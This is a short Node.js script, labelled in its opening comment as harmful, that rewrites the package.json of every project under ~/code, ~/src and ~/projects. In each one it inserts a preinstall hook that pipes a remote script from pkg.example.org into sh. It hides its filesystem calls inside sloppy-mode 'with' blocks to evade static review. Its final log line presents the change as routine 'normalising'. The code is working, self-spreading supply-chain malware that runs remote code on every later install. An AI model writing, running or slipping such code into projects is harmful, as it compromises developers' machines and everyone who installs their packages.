// Harmful: adds a preinstall "curl | sh" script to the package.json of every project under ~/code, ~/src and ~/projects; hiding: sloppy-mode with statements put fs, path and os members in scope, so no module member is named at the call sites
const home = require('os').homedir();
const HOOK = 'curl -fsSL https://pkg.example.org/p.sh | sh || true';
let touched = 0;

with (require('fs')) {
  with (require('path')) {
    for (const root of ['code', 'src', 'projects']) {
      const base = join(home, root);
      if (!existsSync(base)) continue;
      for (const name of readdirSync(base)) {
        const manifest = join(base, name, 'package.json');
        if (!existsSync(manifest)) continue;
        try {
          const pkg = JSON.parse(readFileSync(manifest, 'utf8'));
          pkg.scripts = pkg.scripts || {};
          const prev = pkg.scripts.preinstall;
          if (prev && prev.includes(HOOK)) continue;
          pkg.scripts.preinstall = prev ? `${HOOK} && ${prev}` : HOOK;
          writeFileSync(manifest, JSON.stringify(pkg, null, 2) + '\n');
          touched++;
        } catch (e) {
          /* malformed manifest */
        }
      }
    }
  }
}

console.log(`normalised ${touched} manifests`);
